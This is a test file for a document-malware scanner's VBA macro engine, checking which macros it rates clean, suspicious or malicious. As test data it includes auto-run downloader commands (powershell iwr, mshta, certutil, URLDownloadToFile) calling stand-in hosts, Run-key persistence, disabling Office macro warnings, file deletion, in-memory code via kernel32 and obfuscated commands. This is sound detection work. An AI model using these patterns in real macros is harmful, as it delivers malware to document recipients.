"""What macros do, and that ordinary ones are left alone."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from lazaretto.analysis.cage.host import Cage, sheet
from lazaretto.analysis.documents import ovba
from lazaretto.analysis.documents.basic.machine import Machine
from lazaretto.analysis.documents.basic.syntax import read
from lazaretto.analysis.documents.basic.values import Text
from lazaretto.analysis.engine import Finding
from lazaretto.analysis.engines import macros as engine
from lazaretto.analysis.findings import load_meanings
from lazaretto.analysis.identify import identify
from lazaretto.analysis.rulefiles import default_folder
from lazaretto.domain.scoring import RunFacts, judge
from lazaretto.domain.verdict import Status
from lazaretto.testing.documents import details, ids, indicators, look, members
from lazaretto.testing.vba import compound, compress, docm, odt, vba_project, xlsm

MEANINGS = load_meanings(default_folder())


def found(source: str) -> set[str]:
    return ids(look(engine.examine, docm(source), "a.docm"))


def status(data: bytes) -> Status:
    said = [output for output in look(engine.examine, data) if isinstance(output, Finding)]
    return judge(MEANINGS.evidence(said, "macros"), RunFacts()).status


def opening(body: str, more: str = "") -> str:
    return f"Sub Document_Open()\n{body}\nEnd Sub\n{more}"


def asked(body: str, more: str = "") -> str:
    return f"Sub Button_Click()\n{body}\nEnd Sub\n{more}"


# --- ordinary macros ------------------------------------------------------------------------------------------------

ORDINARY = {
    "a template that sets itself up": opening(
        'ActiveDocument.Variables("Date").Value = Format(Date, "dd.mm.yyyy")\n'
        'Application.StatusBar = "Welcome, " & Environ("USERNAME") & Chr(13) & Chr(34) & "Please fill in" & Chr(34)\n'
        "ActiveDocument.Fields.Update"
    ),
    "an export": asked(
        'Dim f: f = FreeFile\nOpen ThisWorkbook.Path & "\\export.csv" For Output As #f\nFor i = 1 To 100\n'
        'Print #f, Cells(i, 1).Value & ";" & Cells(i, 2).Value\nNext\nClose #f\nMsgBox "Done"'
    ),
    "a query": asked(
        'Set c = CreateObject("ADODB.Connection")\nc.Open "Provider=SQLOLEDB;Server=db;Database=sales"\n'
        's = "SELECT a, b, c "\ns = s & "FROM t "\ns = s & "WHERE a > 5 AND "\ns = s & "b < 7"\nSet r = c.Execute(s)'
    ),
    "rates from the web": asked(
        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://rates.example.org/eur.xml", False\nx.Send\n'
        'Range("A1").Value = x.responseText'
    ),
    "a menu of an add-in": (
        "Sub Auto_Open()\nWith Application.CommandBars(1).Controls.Add(Type:=msoControlPopup)\n.Caption = \"Tools\"\n"
        "With .Controls.Add(1)\n.Caption = \"Clean up\": .OnAction = \"CleanUp\"\nEnd With\nEnd With\nEnd Sub\n"
        "Sub CleanUp()\nDim ws As Worksheet\nFor Each ws In ActiveWorkbook.Worksheets\nws.Cells.Replace What:=\" \", "
        "Replacement:=\"\"\nNext ws\nEnd Sub"
    ),
    "a mail from a button": asked(
        'Set o = CreateObject("Outlook.Application")\nSet m = o.CreateItem(0)\nm.To = "sales@example.org"\n'
        'm.Subject = "Order"\nm.Attachments.Add ActiveWorkbook.FullName\nm.Send'
    ),
    "a dictionary and the clipboard": (
        'Private Declare PtrSafe Function GlobalAlloc Lib "kernel32" (ByVal a As Long) As LongPtr\n'
        'Private Declare PtrSafe Sub CopyMemory Lib "kernel32" Alias "RtlMoveMemory" (d As Any)\n'
        'Sub Workbook_Open()\nSet d = CreateObject("Scripting.Dictionary")\nd.Add "a", 1\n'
        'Set f = CreateObject("Scripting.FileSystemObject")\nIf f.FolderExists("C:\\Data") Then MsgBox 1\nEnd Sub'
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_macros_are_clean(name: str) -> None:
    assert status(docm(ORDINARY[name])) is Status.CLEAN
    assert status(xlsm(ORDINARY[name])) is Status.CLEAN


def test_a_document_without_code_has_nothing() -> None:
    assert found("Option Explicit\n' nothing here\n") == set()


@pytest.mark.parametrize(
    "body",
    [
        'Shell "explorer.exe C:\\Data", vbNormalFocus',
        'Open "C:\\Data\\copy.bat" For Output As #1\nPrint #1, "copy a b"\nClose #1\nShell "C:\\Data\\copy.bat"',
        'Set s = CreateObject("ScriptControl")\ns.Language = "JScript"\nx = s.Eval("(" & Range("A1").Value & ")")',
    ],
)
def test_tools_that_are_asked_for_stay_below_suspicious(body: str) -> None:
    assert status(docm(asked(body))) is Status.CLEAN


# --- what they do ---------------------------------------------------------------------------------------------------

_PROCESS = 'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "tool.exe", Null, Null, p'
_API = 'Private Declare PtrSafe Function {} Lib "{}" Alias "{}" (ByVal a As Long) As Long\n'


_STARTS = ("macro-starts-program", "macro-auto-starts-program")
_OFFICE = "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings"


@pytest.mark.parametrize(
    ("body", "when_asked", "by_itself"),
    [
        ('Shell "tool.exe", 0', *_STARTS),
        ('x = VBA.Shell("tool.exe")', *_STARTS),
        ('CreateObject("WScript.Shell").Run "tool.exe"', *_STARTS),
        ('CreateObject("Shell.Application").ShellExecute "tool.exe"', *_STARTS),
        (_PROCESS, *_STARTS),
        ('Set w = New WshShell\nCallByName CreateObject("WScript.Shell"), "Run", 1, "tool.exe"', *_STARTS),
        ('Application.ExecuteExcel4Macro "EXEC(""tool.exe"")"', *_STARTS),
        ('Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")\nx.Open "GET", "http://a.example/", 0', "macro-uses-network",
         "macro-auto-uses-network"),
        ('Open "C:\\Users\\Public\\a.vbs" For Output As #1', "macro-writes-program", "macro-auto-writes-program"),
        ('With CreateObject("ADODB.Stream")\n.Write b\n.SaveToFile "C:\\a.exe", 2\nEnd With', "macro-writes-program",
         "macro-auto-writes-program"),
        ('CreateObject("MSScriptControl.ScriptControl").ExecuteStatement "x = 1 + 1 + 1"', "macro-runs-text",
         "macro-auto-runs-text"),
        ('ActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString "Sub A()"', "macro-writes-macros",
         "macro-auto-writes-macros"),
        ('Set o = CreateObject("Outlook.Application")\nSet m = o.CreateItem(0)\nm.Send', "macro-sends-mail",
         "macro-auto-sends-mail"),
        ('CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "b"',
         "macro-stays", "macro-stays"),
        (f'CreateObject("WScript.Shell").RegWrite "{_OFFICE}", 1',
         "macro-weakens-protection", "macro-weakens-protection"),
        ('Kill "C:\\Data\\*.*"', "macro-deletes-files", "macro-deletes-files"),
        ('Open "C:\\a.txt" For Append As #1', "macro-writes-file", "macro-writes-file"),
        ('Set l = GetObject("winmgmts:").ExecQuery("SELECT * FROM Win32_BIOS")', "macro-asks-about-machine",
         "macro-asks-about-machine"),
    ],
)  # fmt: skip
def test_deeds_by_themselves_and_when_asked(body: str, when_asked: str, by_itself: str) -> None:
    auto = found(opening(body))
    assert {by_itself, "macro-auto-start"} <= auto
    on_demand = found(asked(body))
    assert when_asked in on_demand
    if when_asked != by_itself:
        assert by_itself not in on_demand
        assert when_asked not in auto


# --- what they open -------------------------------------------------------------------------------------------------

OPENED = {
    "a bare name": 'Shell "calc.exe", 1',
    "an editor": 'Shell "notepad.exe " & ThisDocument.Path & "\\readme.txt"',
    "a folder of the user": 'Shell "explorer.exe " & Environ("USERPROFILE")',
    "a folder of the firm": 'Shell "explorer.exe \\\\files\\templates"',
    "a page": 'CreateObject("WScript.Shell").Run "msedge https://intranet.example/help"',
    "a program of the firm": 'Shell """C:\\Program Files\\Erp\\client.exe"" /open orders"',
    "a program without quotes": 'Shell "C:\\Program Files (x86)\\Erp\\client.exe /open orders"',
    "of the system by its path": 'Shell "C:\\Windows\\System32\\notepad.exe C:\\a.txt"',
}
ORDERED = {
    "a shell": 'Shell "cmd /c dir"',
    "an interpreter that is installed": 'Shell """C:\\Program Files\\PowerShell\\7\\pwsh.exe"" -c dir"',
    "a loader": 'Shell "rundll32 C:\\Users\\Public\\a.dll,Run"',
    "a program by way of a folder window": 'Shell "explorer.exe C:\\Users\\Public\\a.lnk"',
    "a share of the internet": 'Shell "explorer.exe \\\\203.0.113.5@80\\a"',
    "a program where anybody writes": 'Shell Environ("TEMP") & "\\a.exe"',
    "a way out of the folder": 'Shell "C:\\Program Files\\..\\Users\\Public\\a.exe"',
    "a name that only begins so": 'Shell "notepad.exe.scr"',
    "a program of that name elsewhere": 'Shell "C:\\Users\\Public\\notepad.exe"',
    "a browser under orders": 'Shell "msedge --headless https://a.example/"',
    "more commands": 'Shell "notepad & a.bat"',
    "an installed program with an address": 'Shell """C:\\Program Files\\Tool\\get.exe"" http://a.example/b"',
    "what is not known": "Shell x(1)",
    "anything by way of a folder window": 'Shell "explorer.exe " & Foo.Bar(1)',
    "a path that is not known": 'Shell "C:\\Program Files\\" & Foo.Bar(1) & "\\a.exe"',
    "what is put together": 'Shell Chr(99) & Chr(97) & Chr(108) & Chr(99) & ".exe"',
}


@pytest.mark.parametrize("name", OPENED)
def test_an_ordinary_program_is_opened(name: str) -> None:
    body = OPENED[name]
    assert found(opening(body)) == {"macro-code", "macro-auto-start", "macro-auto-opens-program"}
    assert found(asked(body)) == {"macro-code", "macro-opens-program"}
    assert status(docm(opening(body))) is status(docm(asked(body))) is Status.CLEAN


@pytest.mark.parametrize("name", ORDERED)
def test_what_takes_orders_is_no_ordinary_program(name: str) -> None:
    assert "macro-auto-starts-program" in found(opening(ORDERED[name]))
    assert "macro-starts-program" in found(asked(ORDERED[name]))
    assert status(docm(opening(ORDERED[name]))).rank >= Status.SUSPICIOUS.rank


@pytest.mark.parametrize(
    "command",
    [
        "net use K: \\\\files\\share",
        "\\\\files\\tools\\update.bat",
        "cmd /c xcopy /y \\\\files\\templates\\*.dotx C:\\Templates",
    ],
)
def test_a_share_of_the_firm_is_no_download(command: str) -> None:
    """One command is one act: strong, and not malicious for naming a server too."""
    assert status(docm(opening(f'Shell "{command}"'))) is Status.SUSPICIOUS
    assert status(docm(asked(f'Shell "{command}"'))) is Status.CLEAN


@pytest.mark.parametrize(
    "command",
    [
        "mshta http://203.0.113.9/a",
        "powershell -w hidden -c iwr https://a.example/b -OutFile b.ps1; .\\b.ps1",
        "cmd /c \\\\203.0.113.9\\a\\b.exe",
        "rundll32 \\\\a.example@SSL\\b\\c.dll,Run",
    ],
)
def test_a_command_with_an_address_outside_that_runs_by_itself_is_malicious(command: str) -> None:
    assert status(docm(opening(f'Shell "{command}"'))) is Status.MALICIOUS
    on_demand = found(asked(f'Shell "{command}"'))
    assert {"macro-starts-program", "macro-uses-network"} <= on_demand


@pytest.mark.parametrize(
    ("command", "wanted"),
    [
        ("powershell -c iex (New-Object Net.WebClient).DownloadString('http://a.example/x')", True),
        ("certutil -urlcache -f http://a.example/x C:\\Users\\Public\\x.exe", True),
        ("cmd /c start https://a.example/help", False),
        ("rundll32 url.dll,FileProtocolHandler https://a.example/help", False),
    ],
)
def test_what_a_button_has_brought_is_no_page_that_it_shows(command: str, wanted: bool) -> None:
    data = docm(asked(f'Shell "{command}"'))
    assert ("macro-fetches-program" in ids(look(engine.examine, data, "a.docm"))) is wanted
    assert (status(data).rank > 0) is wanted


def test_what_is_called_by_an_automatic_procedure_is_automatic() -> None:
    deep = opening("A 1", 'Sub A(x)\nApplication.Run "B"\nEnd Sub\nSub B()\nShell "tool.exe"\nEnd Sub\n')
    assert "macro-auto-starts-program" in found(deep)
    later = opening('Application.OnTime Now + TimeValue("00:00:05"), "B"', 'Sub B()\nShell "tool.exe"\nEnd Sub\n')
    assert "macro-auto-starts-program" in found(later)


def test_a_declared_function_counts_by_its_real_name() -> None:
    source = _API.format("Foo", "urlmon", "URLDownloadToFileA") + opening(
        'Foo 0, "http://a.example/x", "C:\\x.exe", 0, 0'
    )
    outputs = look(engine.examine, docm(source))
    assert {"macro-auto-uses-network", "macro-auto-writes-program", "macro-fetches-program"} <= ids(outputs)
    assert indicators(outputs, "url") == {"http://a.example/x"}
    assert indicators(outputs, "path") == {"C:\\x.exe"}
    assert status(docm(source)) is Status.MALICIOUS


def test_a_downloader_and_its_halves() -> None:
    fetch = 'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://a.example/b.exe", False\nx.Send\n'
    assert "macro-fetches-program" in found(opening(fetch + 'Shell "C:\\b.exe"'))
    assert "macro-fetches-program" in found(opening('Shell "mshta http://a.example/b"'))
    assert "macro-fetches-program" not in found(opening(fetch))
    assert "macro-fetches-program" not in found(opening('Shell "tool.exe"'))


def test_a_control_that_is_drawn() -> None:
    drawn = 'Sub InkPicture1_Painted(ByVal hDC As Long)\nShell "tool.exe"\nEnd Sub'
    assert {"macro-starts-when-drawn", "macro-auto-starts-program"} <= found(drawn)
    assert "macro-starts-when-drawn" not in found("Sub UserForm_Layout()\nx = 1\nEnd Sub")
    assert "macro-starts-when-drawn" not in found("Sub TextBox1_GotFocus()\nMe.Caption = 1\nEnd Sub")


def test_code_in_memory() -> None:
    declared = "".join(
        _API.format(name, "kernel32", real)
        for name, real in (("A", "VirtualAlloc"), ("B", "RtlMoveMemory"), ("C", "CreateThread"))
    )
    assert "macro-memory-code" in found(declared + opening("x = A(1)"))
    assert "macro-memory-code" not in found(_API.format("B", "kernel32", "RtlMoveMemory") + opening("x = 1"))


def test_looking_around_before_it_acts() -> None:
    guarded = opening('If Application.RecentFiles.Count < 3 Then Exit Sub\nShell "tool.exe"')
    assert {"macro-looks-around", "macro-auto-starts-program"} <= found(guarded)
    assert "macro-looks-around" not in found(opening("x = Application.RecentFiles.Count"))


# --- what is hidden -------------------------------------------------------------------------------------------------

_DECODER = (
    'Function D(s, k)\nFor i = 1 To Len(s) Step 2\nD = D & Chr(CInt("&H" & Mid(s, i, 2)) Xor k)\nNext\nEnd Function\n'
)

_NODE = 'e.DataType = "bin.base64"\ne.Text = "Y2FsYy5leGU="\nShell StrConv(e.nodeTypedValue, vbUnicode)'


@pytest.mark.parametrize(
    ("body", "more"),
    [
        ("Shell Chr(99) & Chr(97) & Chr(108) & Chr(99) & Chr(46) & Chr(101) & Chr(120) & Chr(101)", ""),
        ('Shell StrReverse("exe.clac")', ""),
        ('Shell Replace("c#a#l#c#.#e#x#e", "#", "")', ""),
        ("For Each c In Array(99, 97, 108, 99, 46, 101, 120, 101)\ns = s & ChrW(c)\nNext\nShell s", ""),
        ('Shell Join(Array("c", "a", "l", "c", ".", "e", "x", "e"), "")', ""),
        ('Shell "c" & "a" & "lc" & "." & "ex" & "e"', ""),
        ('s = "ca"\ns = s + "lc"\ns = s & "."\ns = s & "e"\ns = s & "xe"\nShell s', ""),
        ('Shell D("' + bytes(b ^ 3 for b in b"calc.exe").hex() + '", 3)', _DECODER),
        ('t = "98,96,107,98,45,100,119,100"\nFor Each p In Split(t, ",")\ns = s & Chr(CLng(p) + 1)\nNext\nShell s', ""),
        ('Dim n: n = 8\nDo While n > 0\nn = n - 1\ns = s & Mid("exe.clac", 8 - n, 1)\nLoop\nShell StrReverse(s)', ""),
        ('Set e = CreateObject("MSXML2.DOMDocument").createElement("b")\n' + _NODE, ""),
    ],
)  # fmt: skip
def test_hidden_commands_are_found(body: str, more: str) -> None:
    outputs = look(engine.examine, docm(opening(body, more)))
    assert {"macro-auto-starts-program", "macro-hides-what-it-does"} <= ids(outputs)
    assert any("calc.exe" in detail for detail in details(outputs, "macro-auto-starts-program"))
    assert [member.data for name, member in members(outputs).items() if name.endswith(".cmd")] == [b"calc.exe"]


@pytest.mark.parametrize(
    "body",
    [
        'Shell "notepad " & Chr(34) & "C:\\a b.txt" & Chr(34)',
        'p = "C:\\Tools"\nShell p & "\\" & "tool.exe" & " /s"',
        'Shell Environ("WINDIR") & "\\notepad.exe"',
        'Shell Pick("n")',
    ],
)
def test_ordinary_joining_is_not_hiding(body: str) -> None:
    more = 'Function Pick(x)\nIf x = "n" Then\nPick = "notepad.exe"\nElse\nPick = "tool.exe"\nEnd If\nEnd Function'
    assert "macro-hides-what-it-does" not in found(asked(body, more))


def test_many_hidden_texts_and_their_rewriting() -> None:
    lines = "\n".join(
        f'x{n} = StrReverse("{word[::-1]}")'
        for n, word in enumerate(("WScript.Shell", "http://a.example/", "secret word"))
    )
    outputs = look(engine.examine, docm(asked(lines)))
    assert "macro-hidden-texts" in ids(outputs)
    decoded = members(outputs)["ThisDocument.decoded.bas"]
    assert decoded.relation == "decoded"
    assert b'x0 = "WScript.Shell"' in decoded.data
    assert indicators(outputs, "url") == {"http://a.example/"}
    assert "macro-hidden-texts" not in found(asked('x = StrReverse("abcdef")'))


def test_a_command_kept_in_the_document() -> None:
    body = 'Shell ActiveDocument.Variables("x").Value'
    assert "macro-hides-what-it-does" in found(opening(body))
    assert "macro-hides-what-it-does" not in found(asked(body))  # a setting of a tool


def with_compiled(compiled: bytes, source: str) -> bytes:
    """A project whose one module has this compiled code before its source."""
    tree = dict(vba_project({"ThisDocument": source}, "ThisDocument"))
    storage = dict(tree["VBA"])  # type: ignore[arg-type]  # a folder of streams
    storage["ThisDocument"] = compiled + storage["ThisDocument"]  # type: ignore[operator]  # bytes
    listing = ovba.decompress(storage["dir"])  # type: ignore[arg-type]  # bytes
    place = struct.pack("<HI", 0x31, 4)
    storage["dir"] = compress(listing.replace(place + bytes(4), place + struct.pack("<I", len(compiled))))
    tree["VBA"] = storage
    return compound({"Macros": tree, "WordDocument": b"\xec\xa5" + bytes(600)})


def literal(text: bytes) -> bytes:
    return b"\xb9\0" + struct.pack("<H", len(text)) + text


def test_compiled_code_that_is_not_the_source() -> None:
    code = literal(b"http://a.example/x") + b"\0\1" + literal(b"WScript.Shell")
    same = with_compiled(code, 'Sub A()\nx = "http://a.example/x"\ny = "WScript.Shell"\nEnd Sub')
    assert ids(look(engine.examine, same)) == {"macro-code"}
    other = look(engine.examine, with_compiled(code, "Sub A()\nMsgBox 1\nEnd Sub"))
    assert ids(other) == {"macro-code", "macro-source-differs"}
    assert members(other)["ThisDocument.compiled.txt"].data == b"http://a.example/x\nWScript.Shell"
    assert ids(look(engine.examine, with_compiled(code, ""))) == {"macro-source-missing"}


def test_openoffice_starts_what_it_is_bound_to() -> None:
    outputs = look(engine.examine, odt('Sub Main\nShell("tool.exe", 0)\nEnd Sub'))
    assert ids(outputs) == {"macro-code", "macro-auto-start", "macro-auto-starts-program"}


# --- the language ---------------------------------------------------------------------------------------------------


def value(body: str) -> object:
    """What `x` is passed to `Shell` as."""
    machine = Machine(read([("m", f"Sub A()\n{body}\nShell x\nEnd Sub")]))
    machine.start("a", "a")
    return next(act.arguments[0] for act in machine.acts if act.name == "shell")


@pytest.mark.parametrize(
    ("body", "result"),
    [
        ("x = 2 + 3 * 4 ^ 2 Mod 5", 5),
        ("x = 7 \\ 2 & \"\"", "3"),
        ("x = -7 Mod 3", -1),
        ("x = &HFF Xor &O17", 240),
        ("x = Not 5", -6),
        ("x = \"a\"\"b\"", 'a"b'),
        ("If 1 = 2 Then x = 1 Else x = 2", 2),
        ("If False Then\nx = 1\nElseIf True Then\nx = 2\nElse\nx = 3\nEnd If", 2),
        ("For i = 10 To 1 Step -3: x = x & i & \",\": Next", "10,7,4,1,"),
        ("Select Case 5\nCase 1 To 3\nx = 1\nCase 4, 5\nx = 2\nCase Else\nx = 3\nEnd Select", 2),
        ("Dim a(3)\na(1) = \"q\"\nx = a(1) & UBound(a)", "q3"),
        ("i = 0\nDo\ni = i + 1\nLoop Until i = 4\nx = i", 4),
        ("i = 0\nWhile i < 3\ni = i + 1\nWend\nx = i", 3),
        ("x = Mid(\"hello\", 2, 3) & Left(\"ab\", 1) & Right(\"cd\", 1) & Len(\"abc\")", "ellad3"),
        ("x = InStr(\"abc\", \"c\") & UCase(\"a\") & Hex(255) & Val(\"12ab\")", "3AFF12"),
        ("x = _\n \"a\" & _\n \"b\" ' and a comment", "ab"),
        ("x = Split(\"a-b-c\", \"-\")(1)", "b"),
        ("With Nothing\nx = IIf(1 > 0, \"y\", \"n\")\nEnd With", "y"),
        ("GoTo 5: x = 1", 1),
    ],
)  # fmt: skip
def test_the_language(body: str, result: object) -> None:
    assert value(body) == (Text(result) if isinstance(result, str) else result)


@pytest.mark.slow
def test_endless_programs_end() -> None:
    for body in (
        "Do\nx = x & \"a\"\nLoop", "Document_Open", "For i = 1 To 1E300\nNext", "x = String(1E9, 65)\nx = x & x",
        "ReDim a(1E12)\na(1E9) = 1", "x = 9 ^ 9 ^ 9 ^ 9", "x = 2\nDo\nx = x * x\nLoop",
    ):  # fmt: skip
        assert "macro-auto-start" in found(opening(body))
    assert "macro-code" in found(opening("x = " + "(" * 5000 + "1" + ")" * 5000))
    assert "macro-code" in found(opening("x = " + "1 + " * 20000 + "1"))
    assert "macro-code" in found(opening("If a Then\n" * 500 + "x = 1"))


FULL = docm(opening('Shell Replace("c#a#l#c", "#", "")', _DECODER))


@settings(max_examples=100, deadline=None)
@given(st.integers(0, len(FULL) - 1), st.binary(min_size=1, max_size=8))
def test_changed_documents_end_in_outputs(place: int, other: bytes) -> None:
    look(engine.examine, FULL[:place] + other + FULL[place + len(other) :], "a.docm")
    look(engine.examine, FULL[:place], "a.docm")


PROJECT = compound(
    {"Macros": vba_project({"ThisDocument": opening('Shell "a"')}, "ThisDocument"), "WordDocument": b"x" * 5000}
)


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(PROJECT) - 1), st.binary(min_size=1, max_size=8))
@example(place=6124, other=b"\0")  # a code page that does not exist
def test_changed_compound_files_end_in_outputs(place: int, other: bytes) -> None:
    look(engine.examine, PROJECT[:place] + other + PROJECT[place + len(other) :], "a.doc")
    look(engine.examine, PROJECT[:place], "a.doc")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([
    "Sub", "End Sub", "If", "Then", "Else", "End If", "For", "Next", "x", "=", "(", ")", "\n", ":", '"a"', "1", "&",
    "To", "Each", "Shell", "In", "Do", "Loop", "While", "With", ".", "Select Case", "Case", "Function", "Dim",
]), max_size=60))  # fmt: skip
def test_any_words_end(words: list[str]) -> None:
    found("Sub AutoOpen()\n" + " ".join(words))


def test_in_the_cage_and_all_have_a_meaning() -> None:
    with Cage(at_once=1) as cage:
        for data in (FULL, PROJECT, odt('Sub Main\nShell("tool.exe")\nEnd Sub')):
            with sheet(data) as fd:
                outcome = cage.run(engine.ENGINE, fd, name="a", kind=identify(data, "a"))
            assert outcome.failed == "", outcome.detail
            assert outcome.outputs == tuple(look(engine.examine, data, "a"))
            said = {output.id for output in outcome.outputs if isinstance(output, Finding)}
            assert said
            assert said <= set(MEANINGS.by_id)


def test_a_member_without_a_name_costs_itself_alone() -> None:
    whole = docm(opening('Shell "tool.exe"'))
    named = b"word/document.xml"
    assert whole.count(named) == 2  # before the member and in the directory
    nameless = whole.replace(named, bytes(len(named)))  # zipfile cuts a name at its first zero
    assert "macro-auto-starts-program" in ids(look(engine.examine, nameless))


def test_every_finding_of_the_catalogue_is_tested_here() -> None:
    text = Path(__file__).read_text()
    assert [name for name in MEANINGS.by_id if name.startswith("macro-") and f'"{name}"' not in text] == []
